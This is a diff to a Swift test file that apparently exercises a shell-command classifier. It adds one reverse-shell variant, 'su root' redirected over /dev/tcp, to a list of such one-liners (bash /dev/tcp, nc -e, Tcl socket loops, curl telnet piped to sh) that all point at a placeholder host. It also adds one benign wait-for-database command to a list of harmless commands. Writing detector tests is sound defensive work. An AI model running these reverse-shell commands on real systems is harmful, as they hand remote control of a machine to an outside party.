@@ -38,6 +38,7 @@ struct ShapeFlowTests {
         "echo 'set s [socket h 1]; while 1 {gets $s c; puts $s [exec $c]}' | tclsh",
         // Ways between commands.
         "trap 'bash -i >& /dev/tcp/h/1 0>&1' EXIT", "echo -e 'nc -e sh h 1' | bash -s",
+        "su root <>/dev/tcp/h/1 >&0",
         "export X=nc; $X -e sh h 1", "coproc nc h 1; bash <&${COPROC[0]} >&${COPROC[1]}",
         "exec 3<>/dev/tcp/h/1; while read l <&3; do bash -c \"$l\" >&3 2>&3; done",
         "curl -Ns telnet://h:1 | sh | curl -T - telnet://h:1",
@@ -131,6 +132,7 @@ struct ShapeFlowTests {
         "find /etc -name '*.sh' -exec bash -n {} +", "runuser -u web -- /usr/bin/x",
         "start-stop-daemon --start --exec /usr/sbin/nginx -- -g 'daemon off;'",
         "vim -c 'set nu' x", "gdb -batch -ex bt -p 1", "trap 'rm -f /run/x; exit' EXIT TERM",
+        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec su web",
         "exec gosu redis \"$0\" \"$@\"", "watch -n 5 'curl -s localhost/health'",
         "tar czf - /srv --checkpoint=1000 --checkpoint-action=dot",
         "bash -euo pipefail -c 'date | tee /var/log/d'", "coproc cat; echo x >&${COPROC[1]}",
